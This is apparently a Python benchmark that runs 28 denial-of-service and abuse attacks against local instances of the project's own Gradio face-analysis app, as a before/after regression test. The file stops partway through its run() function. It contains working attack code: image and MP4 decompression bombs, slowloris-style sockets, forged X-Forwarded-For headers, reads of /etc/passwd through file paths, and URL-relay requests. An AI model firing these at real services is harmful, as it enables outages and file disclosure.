"""``python -m bench.attack [--before REV]``: each hostile-client attack against a fresh server, and what it did to
the service: server RSS at start, at its peak and 3 s after the attack (did memory come back?), the slowest ``/health``
during the attack and one probe after it, whether a normal ``/predict`` from another client still succeeded, the
server's CPU seconds in the 3 s after the attack (work that goes on for a client refused or gone), and whether the
process survived. ``--before REV`` runs the same attacks against another revision's ``app.py`` (checked out with
``git worktree``) in the same run, for a before/after table.

Every server is started with ``FORWARDED_ALLOW_IPS=127.0.0.1`` (attacker and victim are told apart by
``X-Forwarded-For``; a revision that ignores the header sees them as one client) and a per-minute rate limit high
enough that only the attack itself can refuse the victim; ``ENV`` adds an attack's own settings (B9's
``FORWARDED_ALLOW_IPS=*``). B1 and B4 come from other loopback addresses (127.0.0.5, 127.0.0.6) over real sockets.
Attacks 8–19 are issue #21's B1–B12, 20– issue #33's C1–C9; each is bounded (client timeouts, ≤ 60 s) even against a vulnerable server.
"""

from __future__ import annotations

import argparse
import functools
from dataclasses import replace
import socket
import subprocess
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Callable

import httpx
import numpy as np
from PIL import Image

from bench.attacks import (ASTRONAUT_PATH, Wire, bomb_png, chunk_bomb_png, cpu_s, data_url, empty_parts, encode, flat_png,
                           idle_sockets, many_tracks_mkv, mp4_clip, path_entry, raw_request, rss_mb, sample_index_mp4,
                           scan_bomb_jpeg, still_open, tiny_objects, trickle, trickled_bodies, watch)
from bench.server import ROOT, running_app

ASTRONAUT = ASTRONAUT_PATH.read_bytes()
ATTACKER, VICTIM = "10.66.0.1", "10.77.0.1"
FNS: dict[str, Wire] = {}  # server URL → a client that has read its events once, before the attack
PIDS: dict[str, int] = {}  # server URL → the server's process id
SETTLE_S = 3.0  # the server's RSS and CPU after an attack are read this long after it ended


def _victim_ok(url: str, tries: int = 3) -> str:
    """How many of ``tries`` normal /predict calls from another client succeeded, as 'k/n'."""
    ok = 0
    for _ in range(tries):
        try:
            result = replace(FNS[url], ip=VICTIM, timeout=10).predict_file("face.jpg", ASTRONAUT)
        except httpx.HTTPError:
            result = None
        ok += bool(result and result.get("success"))
    return f"{ok}/{tries}"


def file_by_path(url: str, tmp: Path) -> str:
    wire = replace(FNS[url], ip=ATTACKER)
    r = wire.post("/gradio_api/call/predict", {"data": [path_entry("/etc/passwd")]}, timeout=5)
    opened = "refused unread" if r.status == 400 else "opened /etc/passwd"
    threading.Thread(target=wire.post, args=("/gradio_api/call/predict", {"data": [path_entry("/dev/zero")]}, 30),
                     daemon=True).start()
    time.sleep(3)
    return opened


def pixel_bombs(url: str, tmp: Path) -> str:
    bomb, big = data_url(bomb_png(13000)), bomb_png(9400)
    with ThreadPoolExecutor(8) as pool:
        jobs = [pool.submit(replace(FNS[url], ip=f"10.66.1.{i}").run, "analyse_frame", [bomb], None, 60) for i in range(2)]
        jobs += [pool.submit(replace(FNS[url], ip=f"10.66.2.{i}").run, "stream_frame", [bomb, None], None, 20) for i in range(2)]
        jobs += [pool.submit(replace(FNS[url], ip=f"10.66.3.{i}", timeout=60).predict_file, "big.png", big) for i in range(4)]
        for j in jobs:
            try:
                j.result(timeout=90)
            except Exception:  # noqa: BLE001 - the service's fate is what is measured
                pass
    return "2 snapshots + 2 live frames of a 20 KB 13000² PNG, 4 × 9400² PNG"


def stream_joins(url: str, tmp: Path) -> str:
    wire = replace(FNS[url], ip=ATTACKER)
    frame = data_url(ASTRONAUT, "image/jpeg")
    joined = sum(wire.join("stream_frame", [frame, None])[0].status == 200 for _ in range(66))
    return f"{joined}/66 stream joins accepted"


def _post_many(url: str, path: str, body: bytes, times: int) -> list[int]:
    """``times`` POSTs of ``body`` as JSON, four at once; the HTTP status of each (0 when the connection failed)."""
    def send(_) -> int:
        try:
            return httpx.post(url + path, content=body, timeout=60,
                              headers={"Content-Type": "application/json", "X-Forwarded-For": ATTACKER}).status_code
        except httpx.HTTPError:
            return 0

    with ThreadPoolExecutor(4) as pool:
        return list(pool.map(send, range(times)))


def file_flood(url: str, tmp: Path) -> str:
    body = ('{"data": [[' + ",".join(['{"path": "/tmp/x.jpg", "meta": {"_type": "gradio.FileData"}}'] * 40_000) + "]]}").encode()
    codes = _post_many(url, "/gradio_api/call/predict_batch", body, 4)
    return f"4 × {len(body) / 2**20:.1f} MB bodies of 40,000 file entries: HTTP {sorted(set(codes))}"


def big_bodies(url: str, tmp: Path) -> str:
    codes = _post_many(url, "/gradio_api/queue/join", b"[" + b"0," * (50 * 2**20) + b"0]", 12)
    status, _ = raw_request(url, "POST /gradio_api/queue/join HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                                 "Content-Length: 200000000\r\n", b"{")
    return f"12 × 100 MB JSON bodies: HTTP {sorted(set(codes))}; 200 MB declared: HTTP {status}"


def live_frames_on_disk(url: str, tmp: Path) -> str:
    wire = replace(FNS[url], ip=ATTACKER)
    folder = tmp / "gradio"
    before = {p for p in folder.rglob("*") if p.is_file()}
    frames = [data_url(encode(_shifted(i), "JPEG", quality=90), "image/jpeg") for i in range(101)]  # a camera: every frame differs
    frame = frames[0]
    reply, session = wire.join("stream_frame", [frame, None])
    if reply.status != 200:
        return f"stream refused: HTTP {reply.status}"
    event_id, sent = reply.body["event_id"], 0
    with httpx.stream("GET", f"{url}/gradio_api/queue/data?session_hash={session}", timeout=60) as r:
        for line in r.iter_lines():
            if '"process_streaming"' in line and sent < 100:
                wire.frame(event_id, session, frames[sent + 1])
                sent += 1
            elif sent >= 100:
                httpx.post(f"{url}/gradio_api/stream/{event_id}/close", timeout=5)
                break
    new = {p for p in folder.rglob("*") if p.is_file()} - before
    return f"{len(new)} files written for {sent} live frames"


def _shifted(i: int) -> Image.Image:
    """The astronaut moved by a few pixels: frame ``i`` of a steady hand-held camera."""
    im = Image.open(ASTRONAUT_PATH).convert("RGB")
    return im.transform(im.size, Image.AFFINE, (1, 0, (i % 7) - 3, 0, 1, (i % 5) - 2))


def bad_fn_index(url: str, tmp: Path) -> str:
    r = replace(FNS[url], ip=ATTACKER).post("/gradio_api/queue/join", {"data": [], "fn_index": 9999, "session_hash": "s"})
    return f"HTTP {r.status}"


# -- the attacks of issue #21 (B1–B12) ------------------------------------------------------------------------------
def _xff(ip: str) -> dict:
    return {"X-Forwarded-For": ip}


def _health(url: str, timeout: float = 5) -> str:
    """One /health probe, as 'HTTP 200 in 0.01 s' or 'no answer in 5 s'."""
    t0 = time.perf_counter()
    try:
        code = httpx.get(url + "/health", timeout=timeout).status_code
    except httpx.HTTPError:
        return f"no answer in {timeout:.0f} s"
    return f"HTTP {code} in {time.perf_counter() - t0:.2f} s"


def _post_file(url: str, path: str, name: str, data: bytes, ip: str, timeout: float) -> tuple[str, float]:
    """A multipart POST of one ``file``: ('HTTP 400 invalid_image', or 'no answer' within ``timeout``; seconds)."""
    t0 = time.perf_counter()
    try:
        r = httpx.post(url + path, files={"file": (name, data)}, headers=_xff(ip), timeout=timeout)
    except httpx.HTTPError:
        return "no answer", time.perf_counter() - t0
    return _label(r), time.perf_counter() - t0


def _timed_post(url: str, body: bytes, content_type: str, timeout: float) -> tuple[str, float]:
    """The attacker's POST: its answer's label ("no answer" when none came) and the seconds it took."""
    t0 = time.perf_counter()
    try:
        r = httpx.post(url, content=body, timeout=timeout, headers={"Content-Type": content_type, **_xff(ATTACKER)})
    except httpx.HTTPError:
        return "no answer", time.perf_counter() - t0
    return _label(r), time.perf_counter() - t0


def _label(r: httpx.Response) -> str:
    try:
        error = r.json().get("error") if r.status_code != 200 else None
    except (ValueError, AttributeError):
        error = None
    return f"HTTP {r.status_code}" + (f" {error}" if error else "")


def _answers(results: list[tuple[str, float]]) -> str:
    """'HTTP 400 invalid_image ×2 (0.3–0.5 s)' for each kind of answer."""
    parts = []
    for what in sorted({w for w, _ in results}):
        secs = [t for w, t in results if w == what]
        parts.append(f"{what} ×{len(secs)} ({min(secs):.1f}–{max(secs):.1f} s)")
    return ", ".join(parts)


def _victim_now(url: str) -> str:
    out = replace(FNS[url], ip=VICTIM, timeout=10).predict_file("face.jpg", ASTRONAUT)
    return "served" if out and out.get("success") else "not served"


def idle_connections(url: str, tmp: Path) -> str:
    """B1: 600 TCP connections from one address (127.0.0.5) that send nothing, or half a request head."""
    t0 = time.perf_counter()
    held = idle_sockets(url, 300, "127.0.0.5") + idle_sockets(url, 300, "127.0.0.5", half_head=True)
    try:
        time.sleep(1)
        first = still_open(held)
        health, victim = _health(url), _victim_now(url)
        time.sleep(max(0.0, t0 + 12 - time.perf_counter()))
        last = still_open(held)
    finally:
        for sock in held:
            sock.close()
    return (f"{len(held)} sockets held from 127.0.0.5; {first} open after 1 s, {last} after 12 s; while held: /health "
            f"{health}, victim /predict {victim}")


def scan_bomb(url: str, tmp: Path) -> str:
    """B2: a progressive JPEG of 2,000 scans, twice at once from one client, each given up after 40 s."""
    bomb = scan_bomb_jpeg(8000, 2000)
    with ThreadPoolExecutor(2) as pool:
        results = list(pool.map(lambda _: _post_file(url, "/api/predict", "bomb.jpg", bomb, ATTACKER, 40), range(2)))
    return f"2 × {len(bomb) // 1024} KB 8000² JPEG of 2,000 scans at once to /api/predict: {_answers(results)}"


def loop_parsing(url: str, tmp: Path) -> str:
    """B3: bodies whose parsing is the work: 3 × 5 MB multipart of empty parts to /api/predict and 3 × 5 MB
    /gradio_api/queue/join bodies of 650,000 tiny objects, all at once."""
    parts, objects = empty_parts(5 * 2**20), tiny_objects(5 * 2**20, FNS[url].fns["predict"])

    def send(i: int) -> tuple[str, float]:
        if i < 3:
            return _timed_post(url + "/api/predict", parts, "multipart/form-data; boundary=b", 30)
        return _timed_post(url + "/gradio_api/queue/join", objects, "application/json", 30)

    with ThreadPoolExecutor(6) as pool:
        results = list(pool.map(send, range(6)))
    return (f"3 × 5 MB multipart of {parts.count(b'--b') - 1:,} empty parts: {_answers(results[:3])}; "
            f"3 × 5 MB queue/join of {objects.count(b'{') - 1:,} objects: {_answers(results[3:])}")


def _fates(sockets: list[socket.socket]) -> str:
    """What the server did with each socket: '3 open, 5 answered, 2 closed' (answered: a reply waits to be read)."""
    fate = {"open": 0, "answered": 0, "closed": 0}
    for sock in sockets:
        sock.setblocking(False)
        try:
            fate["answered" if sock.recv(1, socket.MSG_PEEK) else "closed"] += 1
        except BlockingIOError:
            fate["open"] += 1
        except OSError:
            fate["closed"] += 1
    return ", ".join(f"{n} {what}" for what, n in fate.items() if n)


def withheld_last_byte(url: str, tmp: Path) -> str:
    """B4: 10 connections from 127.0.0.6, each a 20 MB /api/predict_video body but its last byte, held 20 s."""
    pid, mb = PIDS[url], 20
    start = rss_mb(pid)
    body = (b'--b\r\nContent-Disposition: form-data; name="file"; filename="clip.mp4"\r\nContent-Type: video/mp4\r\n\r\n'
            + bytes(mb * 2**20) + b"\r\n--b--\r\n")
    head = (f"POST /api/predict_video HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode()
    t0 = time.perf_counter()
    held = idle_sockets(url, 10, "127.0.0.6")

    def send(sock) -> bool:
        sock.settimeout(25)
        try:
            sock.sendall(head)
            sock.sendall(memoryview(body)[:-1])
            return True
        except OSError:
            return False

    pool = ThreadPoolExecutor(len(held) or 1)
    sent = [pool.submit(send, sock) for sock in held]
    try:
        time.sleep(4)
        grown, first = rss_mb(pid) - start, _fates(held)
        time.sleep(max(0.0, t0 + 20 - time.perf_counter()))
        whole, last = sum(f.done() and f.result() for f in sent), _fates(held)
    finally:
        for sock in held:
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            sock.close()
        pool.shutdown(wait=True)
    time.sleep(2)
    return (f"{len(held)} × {mb} MB bodies to /api/predict_video less the last byte, from 127.0.0.6: {whole} sent whole; "
            f"after 4 s: RSS +{grown:.0f} MB, sockets {first}; after 20 s: {last}; RSS {rss_mb(pid) - start:+.0f} MB "
            f"2 s after closing")


def big_valid_pngs(url: str, tmp: Path) -> str:
    """B5: six valid 36 MP PNGs of ~120 KB at once from one client, then six of 24 MP (the most still decoded)."""
    big, most = flat_png(6000), encode(Image.new("RGB", (6000, 4000), (120, 130, 140)), "PNG", compress_level=9)
    with ThreadPoolExecutor(6) as pool:
        r36 = list(pool.map(lambda _: _post_file(url, "/api/predict", "big.png", big, ATTACKER, 40), range(6)))
        r24 = list(pool.map(lambda _: _post_file(url, "/api/predict", "big.png", most, ATTACKER, 40), range(6)))
    return (f"6 × {len(big) // 1024} KB 6000² PNG at once, one client: {_answers(r36)}; then 6 × {len(most) // 1024} KB "
            f"6000×4000: {_answers(r24)}")


def waiting_requests(url: str, tmp: Path) -> str:
    """B6: 60 /api/predict of a 2048² photo at once from 60 clients, all but two waiting for a pipeline slot;
    /health meanwhile."""
    photo = encode(Image.open(ASTRONAUT_PATH).convert("RGB").resize((2048, 2048)), "JPEG", quality=90)
    probes = []

    def probe():
        time.sleep(1.5)
        probes.append(_health(url))

    threading.Thread(target=probe, daemon=True).start()
    with ThreadPoolExecutor(60) as pool:
        results = list(pool.map(lambda i: _post_file(url, "/api/predict", "face.jpg", photo, f"10.66.6.{i}", 30), range(60)))
    return f"60 × /api/predict of a 2048² photo at once from 60 clients: {_answers(results)}; /health 1.5 s in: {probes[0] if probes else '?'}"


def caps_race(url: str, tmp: Path) -> str:
    """B7: 24 /gradio_api/call/predict at once from one client (cap 4), then 24 live-stream joins at once (cap 2)."""
    wire = replace(FNS[url], ip=ATTACKER)
    paths = [wire.upload("face.jpg", ASTRONAUT) for _ in range(24)]
    frame = data_url(ASTRONAUT, "image/jpeg")
    gate = threading.Barrier(24)

    def call(path: str) -> bool:
        gate.wait()
        r = wire.post("/gradio_api/call/predict", {"data": [path_entry(path), None]}, timeout=30)
        return r.status == 200 and isinstance(r.body, dict) and "event_id" in r.body

    def join(_) -> bool:
        gate.wait()
        return wire.join("stream_frame", [frame, None])[0].status == 200

    with ThreadPoolExecutor(24) as pool:
        calls = sum(pool.map(call, paths))
        gate.reset()
        joins = sum(pool.map(join, range(24)))
    return f"{calls}/24 /call/predict accepted (cap 4 per client); {joins}/24 stream joins accepted (cap 2)"


def run_route(url: str, tmp: Path) -> str:
    """B8: Gradio's queue-less /run and /api routes: a public event, a private one by fn_index (forget_session, for
    another client's session), and 8 "explain" calls at once from 2 clients."""
    wire = replace(FNS[url], ip=ATTACKER)
    seen = []
    for route in ("/gradio_api/run/predict", "/gradio_api/api/predict"):
        r = wire.post(route, {"data": [path_entry(wire.upload("face.jpg", ASTRONAUT)), None]}, timeout=30)
        seen.append(f"{route.split('/')[2]}/predict {r.status}")
    forget = wire.fns.get("forget_session")
    if forget is not None:
        r = wire.post("/gradio_api/run/predict", {"data": [], "fn_index": forget, "session_hash": "someone-else"}, timeout=30)
        seen.append(f"forget_session by fn_index {r.status}")
    ips = ["10.66.8.1", "10.66.8.2"]
    paths = [(ip, replace(FNS[url], ip=ip).upload("face.jpg", ASTRONAUT)) for ip in ips for _ in range(4)]

    def explain(job) -> tuple[str, float]:
        ip, path = job
        r = replace(FNS[url], ip=ip).post("/gradio_api/run/explain", {"data": [path_entry(path), None]}, timeout=30)
        return (f"HTTP {r.status}" if r.status else "no answer"), r.seconds

    with ThreadPoolExecutor(8) as pool:
        results = list(pool.map(explain, paths))
    return f"HTTP {', '.join(seen)}; 8 × /run/explain at once from 2 clients: {_answers(results)}"


def forged_forwarded_for(url: str, tmp: Path) -> str:
    """B9 (server with FORWARDED_ALLOW_IPS=* and a limit of 10 photos a minute): 40 /api/predict, each with another
    forged leftmost X-Forwarded-For before the address a proxy would have added."""
    def send(i: int) -> int:
        try:
            return httpx.post(url + "/api/predict", files={"file": ("face.jpg", ASTRONAUT)}, timeout=30,
                              headers=_xff(f"10.99.{i}.1, 10.50.0.1")).status_code
        except httpx.HTTPError:
            return 0

    with ThreadPoolExecutor(4) as pool:
        codes = list(pool.map(send, range(40)))
    return f"{codes.count(200)}/40 accepted with a limit of 10 a minute; HTTP {sorted(set(codes))}"


@functools.cache
def _clips() -> tuple[bytes, bytes]:
    return mp4_clip(2048, 240, 2), mp4_clip(320, 10, 2)


def video_slot(url: str, tmp: Path) -> str:
    """B10: a 2 s 2048² clip at 240 fps (480 full decodes) to /api/predict_video; another client's small clip 1 s later."""
    heavy, small = _clips()
    with ThreadPoolExecutor(2) as pool:
        mine = pool.submit(_post_file, url, "/api/predict_video", "clip.mp4", heavy, ATTACKER, 40)
        time.sleep(1)
        other = pool.submit(_post_file, url, "/api/predict_video", "clip.mp4", small, VICTIM, 40)
        (what, secs), (what2, secs2) = mine.result(), other.result()
    return (f"{len(heavy) // 1024} KB 2048² 240 fps 2 s clip: {what} in {secs:.1f} s; another client's 320×240 clip "
            f"1 s later: {what2} in {secs2:.1f} s")


def unused_routes(url: str, tmp: Path) -> str:
    """B11: Gradio routes the app does not use (process_recording runs ffmpeg): the HTTP status of each."""
    fake_webm = b"\x1a\x45\xdf\xa3" + bytes(2000)
    calls = [("POST", "/gradio_api/process_recording", {"files": {"files": ("rec.webm", fake_webm, "video/webm")}}),
             ("POST", "/gradio_api/component_server", {"json": {"session_hash": "s", "component_id": 1, "fn_name": "x", "data": None}}),
             ("POST", "/gradio_api/reset", {"json": {"event_id": "x"}}),
             ("POST", "/gradio_api/cancel", {"json": {"session_hash": "s", "fn_index": 0, "event_id": "x"}}),
             ("POST", "/gradio_api/call/v2/predict", {"json": {"data": []}}),
             ("GET", "/gradio_api/upload_progress?upload_id=x", {}),
             ("GET", "/gradio_api/queue/status", {}),
             ("GET", "/gradio_api/proxy=http://127.0.0.1:9/x", {}),
             ("GET", "/gradio_api/stream/s/0/1/playlist.m3u8", {}),
             ("GET", "/gradio_api/dev/reload", {}),
             ("GET", "/monitoring", {})]
    seen = []
    for method, path, kw in calls:
        try:
            with httpx.stream(method, url + path, headers=_xff(ATTACKER), timeout=5, **kw) as r:
                code = str(r.status_code)
        except httpx.HTTPError:
            code = "no answer"
        seen.append(f"{path.removeprefix('/gradio_api/').split('?')[0]} {code}")
    return "HTTP: " + ", ".join(seen)


def live_slots(url: str, tmp: Path) -> str:
    """B12: 4 clients × 2 live streams, then a 5th client's stream."""
    frame = data_url(ASTRONAUT, "image/jpeg")
    held = sum(replace(FNS[url], ip=f"10.66.12.{c}").join("stream_frame", [frame, None])[0].status == 200
               for c in range(4) for _ in range(2))
    fifth = replace(FNS[url], ip="10.66.12.9").join("stream_frame", [frame, None])[0]
    error = f" ({fifth.error})" if fifth.error else ""
    return f"{held}/8 streams of 4 clients accepted; a 5th client's stream: HTTP {fifth.status}{error}"


# -- the attacks of issue #33 (round 3) ----------------------------------------------------------------------------
def _with_victim_clip(url: str, attack: Callable[[], str]) -> str:
    """``attack()`` while another client sends a small clip 1 s in: what the attack got, and the clip's answer time."""
    _, small = _clips()
    with ThreadPoolExecutor(2) as pool:
        mine = pool.submit(attack)
        time.sleep(1)
        other = pool.submit(_post_file, url, "/api/predict_video", "clip.mp4", small, VICTIM, 60)
        what, (what2, secs2) = mine.result(), other.result()
    return f"{what}; another client's 2 s clip 1 s in: {what2} in {secs2:.1f} s"


def sample_index_bomb(url: str, tmp: Path) -> str:
    """C1: a 1.7 KB MP4 declaring 2 tracks × 80 M samples, then a 2.4 MB WebM of 990 tracks, to /api/predict_video."""
    mp4, mkv = sample_index_mp4(tracks=2), many_tracks_mkv(990)

    def attack() -> str:
        (a, s1), (b, s2) = (_post_file(url, "/api/predict_video", "clip.mp4", mp4, ATTACKER, 60),
                            _post_file(url, "/api/predict_video", "clip.webm", mkv, ATTACKER, 60))
        return f"{len(mp4) / 1024:.1f} KB MP4 of 2 × 80 M samples: {a} in {s1:.1f} s; {len(mkv) / 2**20:.1f} MB WebM of 990 tracks: {b} in {s2:.1f} s"

    return _with_victim_clip(url, attack)


def starved_budget(url: str, tmp: Path) -> str:
    """C2: 12 sockets from 6 clients declare bodies adding up to 512 MB − 64 B (the in-flight total) and trickle a byte
    every 5 s for 30 s; another client's /api/predict and /call/predict meanwhile."""
    held = trickled_bodies(url, 12, (512 * 2**20 - 64) // 12, clients=6)
    answers: list[tuple[str, float]] = []
    try:
        for k in range(6):
            time.sleep(1)
            answers.append(_post_file(url, "/api/predict", "face.jpg", ASTRONAUT, VICTIM, 20))
            t0 = time.perf_counter()
            r = replace(FNS[url], ip=VICTIM).post("/gradio_api/call/predict", {"data": [path_entry(str(ASTRONAUT_PATH))]}, 20)
            answers.append((f"HTTP {r.status}" + (f" {r.error}" if r.error else ""), time.perf_counter() - t0))
            time.sleep(3)
            trickle(held)
        fate = _fates(held)
    finally:
        for sock in held:
            sock.close()
    return f"12 bodies declaring 512 MB − 64 B, a byte every 5 s, 30 s: sockets {fate}; other client meanwhile: {_answers(answers)}"


def unread_answers(url: str, tmp: Path) -> str:
    """C3: 10 clients × 10 page Upload events (a 2048² photo with sensor-like noise, so its inline preview is as large
    as a real photo's) never reading /queue/data (joined again when busy)."""
    rgb = np.asarray(Image.open(ASTRONAUT_PATH).convert("RGB").resize((2048, 2048)), dtype=np.int16)
    noisy = np.clip(rgb + np.random.default_rng(0).normal(0, 12, rgb.shape), 0, 255).astype(np.uint8)
    photo = encode(Image.fromarray(noisy), "JPEG", quality=90)

    def client(c: int) -> int:
        wire, session, joined = replace(FNS[url], ip=f"10.66.30.{c}"), f"unread{c:02d}", 0
        deadline = time.perf_counter() + 60
        while joined < 10 and time.perf_counter() < deadline:
            reply, _ = wire.join("analyse_upload", [path_entry(wire.upload("face.jpg", photo))], session)
            if reply.status == 200:
                joined += 1
            else:
                time.sleep(0.5)
        return joined

    with ThreadPoolExecutor(10) as pool:
        joined = sum(pool.map(client, range(10)))
    time.sleep(5)  # the queue finishes what was joined
    return f"{joined} Upload events of a {len(photo) / 2**20:.1f} MB photo from 10 clients, answers never read"


def chunk_bombs(url: str, tmp: Path) -> str:
    """C4: 12 PNGs of 1.46 M empty chunks (17 MB each) from one client, 6 at a time; another client's photo 1 s in."""
    bomb = chunk_bomb_png()
    with ThreadPoolExecutor(7) as pool:
        mine = [pool.submit(_post_file, url, "/api/predict", "bomb.png", bomb, ATTACKER, 60) for _ in range(6)]
        time.sleep(1)
        other = pool.submit(_post_file, url, "/api/predict", "face.jpg", ASTRONAUT, VICTIM, 60)
        results = [f.result() for f in mine]
        results += list(pool.map(lambda _: _post_file(url, "/api/predict", "bomb.png", bomb, ATTACKER, 60), range(6)))
        what, secs = other.result()
    return f"12 × {len(bomb) / 2**20:.0f} MB PNG of 1.46 M chunks: {_answers(results)}; another client's photo: {what} in {secs:.1f} s"


def url_relay(url: str, tmp: Path) -> str:
    """C5 (server with every proxy variable pointing at a closed local port: nothing leaves the machine): file= targets
    that are URLs; Gradio would fetch them after a DNS-over-HTTPS lookup."""
    seen = []
    for target in ("http://example.com/big", "https://example.com/x", "//example.com/x"):
        t0 = time.perf_counter()
        try:
            code = str(httpx.get(f"{url}/gradio_api/file={target}", headers=_xff(ATTACKER), timeout=15).status_code)
        except httpx.HTTPError:
            code = "no answer"
        seen.append(f"{target} {code} in {time.perf_counter() - t0:.2f} s")
    return "HTTP: " + ", ".join(seen)


def many_file_parts(url: str, tmp: Path) -> str:
    """C6: 48 /gradio_api/upload requests of 1,000 tiny file parts each, 24 at once, one client."""
    body = b"".join(b'--b\r\nContent-Disposition: form-data; name="files"; filename="f%d.jpg"\r\n\r\nx\r\n' % i
                    for i in range(1000)) + b"--b--\r\n"
    before = sum(1 for p in (tmp / "gradio").rglob("*") if p.is_file())

    def send(_) -> tuple[str, float]:
        return _timed_post(url + "/gradio_api/upload", body, "multipart/form-data; boundary=b", 60)

    with ThreadPoolExecutor(24) as pool:
        results = list(pool.map(send, range(48)))
    files = sum(1 for p in (tmp / "gradio").rglob("*") if p.is_file()) - before
    return f"48 × {len(body) // 1024} KB uploads of 1,000 parts: {_answers(results)}; {files:,} files written"


@functools.cache
def _crowd_clip() -> bytes:
    """A 60 s 1280×720 clip at 10 fps of 14 faces (the astronaut, tiled) — a still, so a few hundred KB."""
    import cv2

    face = cv2.cvtColor(np.asarray(Image.open(ASTRONAUT_PATH).convert("RGB").resize((170, 170))), cv2.COLOR_RGB2BGR)
    frame = np.full((720, 1280, 3), 128, np.uint8)
    for k in range(14):
        y, x = 40 + (k // 7) * 340, 10 + (k % 7) * 180
        frame[y:y + 170, x:x + 170] = face
    with tempfile.TemporaryDirectory() as d:
        writer = cv2.VideoWriter(str(Path(d) / "c.mp4"), cv2.VideoWriter_fourcc(*"mp4v"), 10, (1280, 720))
        for _ in range(600):
            writer.write(frame)
        writer.release()
        return (Path(d) / "c.mp4").read_bytes()


def crowded_video_slot(url: str, tmp: Path) -> str:
    """C7: two 60 s clips of 14 faces a frame from one client at once; another client's 2 s clip 2 s later."""
    heavy, (_, small) = _crowd_clip(), _clips()
    with ThreadPoolExecutor(3) as pool:
        mine = [pool.submit(_post_file, url, "/api/predict_video", "crowd.mp4", heavy, ATTACKER, 200) for _ in range(2)]
        time.sleep(2)
        other = pool.submit(_post_file, url, "/api/predict_video", "clip.mp4", small, VICTIM, 200)
        what, secs = other.result()
        results = [f.result() for f in mine]
    return f"2 × 60 s clips of 14 faces: {_answers(results)}; another client's 2 s clip 2 s later: {what} in {secs:.1f} s"


def long_session_ids(url: str, tmp: Path) -> str:
    """C8: 600 joins of a cheap event, each with its own 60,000-character session_hash, never read."""
    fn = FNS[url].fns["analyse_upload"]
    body = {"data": [None] * FNS[url].arity.get(fn, 1), "fn_index": fn, "event_data": None, "trigger_id": None}

    def send(i: int) -> int:
        try:
            return httpx.post(url + "/gradio_api/queue/join", json={**body, "session_hash": f"{i:06d}" + "s" * 60_000},
                              headers=_xff(f"10.66.40.{i % 200}"), timeout=20).status_code
        except httpx.HTTPError:
            return 0

    with ThreadPoolExecutor(8) as pool:
        codes = list(pool.map(send, range(600)))
    return f"600 joins with 60,000-character session ids: HTTP {sorted(set(codes))} ({codes.count(200)} accepted)"


def error_hygiene(url: str, tmp: Path) -> str:
    """C9: requests that got a 500 (a 300-character multipart boundary, several ranges, a text field or an empty
    file name as the upload) and 20 abandoned bodies; the server log's traceback lines."""
    long = "x" * 300
    example = f"{url}/gradio_api/file={ASTRONAUT_PATH}"
    form = {"Content-Type": "multipart/form-data; boundary=b", **_xff(ATTACKER)}
    calls = [("boundary", lambda: httpx.post(url + "/api/predict", content=f"--{long}\r\n".encode(), timeout=10,
                                             headers={"Content-Type": f"multipart/form-data; boundary={long}", **_xff(ATTACKER)})),
             ("ranges", lambda: httpx.get(example, headers={"Range": "bytes=0-9,20-29"}, timeout=10)),
             ("text files", lambda: httpx.post(url + "/gradio_api/upload", timeout=10, headers=form,
                                               content=b'--b\r\nContent-Disposition: form-data; name="files"\r\n\r\nx\r\n--b--\r\n')),
             ("empty name", lambda: httpx.post(url + "/gradio_api/upload", timeout=10, headers=form,
                                               content=b'--b\r\nContent-Disposition: form-data; name="files"; filename=""\r\n\r\nx\r\n--b--\r\n'))]
    seen = []
    for name, call in calls:
        try:
            seen.append(f"{name} {call().status_code}")
        except httpx.HTTPError:
            seen.append(f"{name} no answer")
    for i in range(20):  # half a body, then gone
        status, _ = raw_request(url, f"POST /api/predict HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 10.66.50.{i}\r\n"
                                     "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 100000\r\n",
                                b"--b\r\n" + bytes(5000), read_timeout=0.3)
    time.sleep(1)
    log = (tmp / "server.log").read_text(errors="replace")
    return f"HTTP {', '.join(seen)}; 20 abandoned bodies: {log.count('Traceback')} tracebacks, {len(log.splitlines())} log lines"


ATTACKS: dict[str, Callable[[str, Path], str]] = {
    "1 file by path (/etc/passwd, /dev/zero)": file_by_path, "2 pixel bombs": pixel_bombs,
    "3 66 live-stream joins": stream_joins, "4 40,000 file entries": file_flood, "5 huge JSON bodies": big_bodies,
    "6 100 live frames": live_frames_on_disk, "7 bad fn_index": bad_fn_index,
    "8 B1 600 idle connections": idle_connections, "9 B2 JPEG scan bomb": scan_bomb,
    "10 B3 parsing on the event loop": loop_parsing, "11 B4 withheld last byte": withheld_last_byte,
    "12 B5 36 MP and 24 MP PNGs": big_valid_pngs, "13 B6 60 waiting requests": waiting_requests, "14 B7 caps race": caps_race,
    "15 B8 /run skips the queue": run_route, "16 B9 forged X-Forwarded-For": forged_forwarded_for,
    "17 B10 one client holds the video slot": video_slot, "18 B11 unused Gradio routes": unused_routes,
    "19 B12 all live slots": live_slots,
    "20 C1 MP4 sample-index bomb": sample_index_bomb, "21 C2 in-flight budget starved": starved_budget,
    "22 C3 unread answers": unread_answers, "23 C4 PNG of 1.46 M chunks": chunk_bombs, "24 C5 file= URL relay": url_relay,
    "25 C6 1,000 file parts per upload": many_file_parts, "26 C7 crowded clips hold the video slot": crowded_video_slot,
    "27 C8 long session ids": long_session_ids, "28 C9 error hygiene": error_hygiene,
}
# Server settings of one attack only, on top of run()'s.
DEAD_PROXY = "http://127.0.0.1:9"  # the discard port: any request the server makes through a proxy goes nowhere
ENV: dict[Callable[[str, Path], str], dict[str, str]] = {
    forged_forwarded_for: {"FORWARDED_ALLOW_IPS": "*", "EMOTION_RATE_LIMIT": "10"},
    url_relay: {"HTTP_PROXY": DEAD_PROXY, "HTTPS_PROXY": DEAD_PROXY, "ALL_PROXY": DEAD_PROXY, "NO_PROXY": "127.0.0.1,localhost"},
}


def run(app_dir: Path, label: str, names: list[str]) -> list[str]:
    rows = []
    for name in names:
        with tempfile.TemporaryDirectory() as tmp:
            tmp_path = Path(tmp)
            (tmp_path / "gradio").mkdir()
